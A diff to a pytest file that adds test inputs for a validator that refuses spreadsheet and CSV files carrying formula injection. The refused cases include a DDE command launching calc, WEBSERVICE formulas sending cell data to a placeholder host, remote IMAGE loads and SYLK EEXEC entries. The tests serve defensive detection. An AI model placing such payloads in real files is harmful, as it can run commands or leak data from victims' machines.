@@ -103,6 +103,12 @@ def related(kind: str, target: str, more: str = "") -> bytes:
         ("a.csv", b'ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc.exe")\nE\n'),
         ("a.csv", b'ID;P\r\nNN;NAuto_open;ER101C1\r\nE\r\n'),
         ("a.csv", b'a,b\n"=WEBSERVICE(""https://a.example.org"")",c\n'),
+        *(("a.csv", f'sep={sign}\r\na{sign}b\r\n甲{sign}=WEBSERVICE("https://a.example.org/"&A2)\r\n'.encode(encoding))
+          for sign in "|^]、x-" for encoding in ("utf-8", "utf-8-sig", "utf-16", "gb18030")),
+        ("a.csv", b"Sep= |\r\na|=cmd|'/c calc'!A0\r\n"),
+        ("a.csv", b'a,"=\nWEBSERVICE(""https://a.example.org"")"\n'),
+        ("a.csv", b"https://a.example.org/b.png,=IMAGE(A1)\n"),
+        ("a.xlsx", sheet("_xlfn.IMAGE(A2)")),
     ],
 )  # fmt: skip
 def test_what_starts_something_is_refused(name: str, data: bytes) -> None:
@@ -128,6 +134,8 @@ def test_what_starts_something_is_refused(name: str, data: bytes) -> None:
         ("a.docx", text('<v:imagedata r:id="a" o:title="https://a.example.org/"/>')),
         ("a.csv", "姓名,-5|x\n=1+1,@甲|乙!\n".encode()),
         ("a.csv", "ID;Phone;Ende\nC;2;甲\n1;－5;＝1+1\n".encode()),
+        ("a.csv", b'sep=|\na|=1+1|"-\n5"\n'),
+        ("a.xlsx", sheet('DISPIMG("ID_1",1)')),
     ],
 )
 def test_what_only_counts_or_is_clicked_is_taken(name: str, data: bytes) -> None:
